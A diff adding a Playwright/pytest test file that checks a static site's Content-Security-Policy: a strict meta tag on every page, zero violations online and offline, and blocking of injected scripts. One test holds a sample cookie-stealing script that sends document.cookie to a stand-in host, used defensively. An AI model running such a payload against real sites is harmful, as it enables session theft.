@@ -1,0 +1,129 @@
+"""The Content-Security-Policy: on every page, strict, and never in the way of the site itself.
+
+Every built page carries the policy as the first thing in <head> after the charset, with no
+'unsafe-inline' or 'unsafe-eval' for scripts. In Chromium, every page online and every page of
+the offline bundle (file://) loads, searches, shows tooltips and runs the tools with zero
+violations; and a script that got into a page anyway is refused (the control that shows the
+policy is real, not decoration).
+"""
+from __future__ import annotations
+
+import re
+import shutil
+from pathlib import Path
+
+import pytest
+
+from browser import serve, site_pages, wait_for
+from macros import csp
+
+CSP_WATCH = ("window.__csp = []; document.addEventListener('securitypolicyviolation', "
+             "e => window.__csp.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample || ''} ${e.sourceFile}:${e.lineNumber}`));")
+META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
+
+
+def all_html(site: Path) -> list[Path]:
+    return sorted(site.rglob("*.html"))
+
+
+def directives(policy: str) -> dict[str, list[str]]:
+    out = {}
+    for part in policy.split(";"):
+        words = part.split()
+        if words:
+            out[words[0]] = words[1:]
+    return out
+
+
+def test_every_page_carries_a_strict_policy_first(site):
+    pages = all_html(site)
+    assert len(pages) > 30
+    for path in pages:
+        html = path.read_text(encoding="utf-8")
+        found = META.findall(html)
+        assert len(found) == 1, f"{path.name}: {len(found)} CSP meta elements"
+        head = html[html.find("<head"):]
+        assert head.find("Content-Security-Policy") < head.find("<script"), f"{path.name}: a script comes before the policy"
+        policy = directives(found[0])
+        assert policy["default-src"] == ["'none'"], path.name
+        scripts = policy["script-src"]
+        assert "'self'" in scripts and "'unsafe-inline'" not in scripts and "'unsafe-eval'" not in scripts, path.name
+        assert "'unsafe-inline'" not in policy["style-src"], path.name
+        # Every inline script of the page is one of the trusted shapes, allowed by its own hash.
+        assert [h for h in scripts if h.startswith("'sha256-")] == csp.inline_hashes(html), path.name
+
+
+def test_an_unknown_inline_script_stops_the_policy():
+    with pytest.raises(csp.UnknownInlineScript):
+        csp.policy("<html><head></head><body><script>fetch('https://evil.example/?'+document.cookie)</script></body></html>")
+    # Data blocks and scripts with a file are no inline code.
+    assert csp.inline_hashes('<script type="application/json">{"a": 1}</script><script src="a.js"></script>') == []
+
+
+def visit_all(page, base: str, pages: list[str]) -> list[str]:
+    bad = []
+    for rel in pages:
+        page.goto(base + rel, wait_until="load")
+        page.wait_for_timeout(50)
+        bad += [f"{rel}: {v}" for v in page.evaluate("window.__csp")]
+    return bad
+
+
+@pytest.fixture
+def watched(browser):
+    context = browser.new_context(viewport={"width": 1280, "height": 900})
+    context.add_init_script(CSP_WATCH)
+    page = context.new_page()
+    yield page
+    context.close()
+
+
+def test_no_violation_on_any_page_online(site, base_url, watched):
+    pages = site_pages(site) + ["404.html"]
+    assert visit_all(watched, base_url, pages) == []
+
+
+def test_no_violation_while_searching_tooltips_and_tools_online(base_url, watched):
+    page = watched
+    page.goto(base_url + "valkuilen/aankoopprijs.html")
+    page.locator("article abbr").first.hover()
+    page.locator(".md-tooltip2").first.wait_for(state="attached", timeout=5000)
+    page.keyboard.press("/")
+    page.keyboard.type("aankoop")
+    page.locator(".md-search-result__item").first.wait_for(timeout=10_000)
+    assert page.evaluate("window.__csp") == []
+    page.goto(base_url + "hulpmiddelen/aankoopwijzer.html?thema=textiel")
+    wait_for(page, "!document.getElementById('wijzer-plan').hidden")
+    page.goto(base_url + "hulpmiddelen/levensduurkost.html")
+    page.click("#lk-vul-voorbeeld")
+    page.click("#lk-formulier button[type=submit]")
+    page.locator("#lk-uitkomst table").first.wait_for(timeout=5000)
+    assert page.evaluate("window.__csp") == []
+
+
+def test_no_violation_on_any_page_of_the_offline_bundle_and_search_works(bundle, watched):
+    base = bundle.as_uri() + "/"
+    pages = [p for p in site_pages(bundle)]
+    assert len(pages) > 30
+    assert visit_all(watched, base, pages) == []
+    page = watched
+    page.goto(base + "index.html")
+    page.locator("input.md-search__input").fill("greenwashing", timeout=10_000)
+    page.locator(".md-search-result__item").first.wait_for(timeout=10_000)
+    assert page.evaluate("window.__csp") == []
+
+
+def test_a_script_that_got_into_a_page_does_not_run(site, tmp_path, watched):
+    """The control: the policy of a real page refuses an inline script and an event handler."""
+    copy = tmp_path / "site"
+    shutil.copytree(site, copy)
+    target = copy / "over.html"
+    html = target.read_text(encoding="utf-8")
+    html = html.replace("</article>", '<script>window.__ran = 1</script><img src="x" onerror="window.__ran = 2"></article>', 1)
+    target.write_text(html, encoding="utf-8")
+    with serve(copy) as base:
+        watched.goto(base + "over.html", wait_until="load")
+        watched.wait_for_timeout(200)
+        assert watched.evaluate("window.__ran") is None
+        violations = watched.evaluate("window.__csp")
+    assert any(v.startswith("script-src") for v in violations), violations
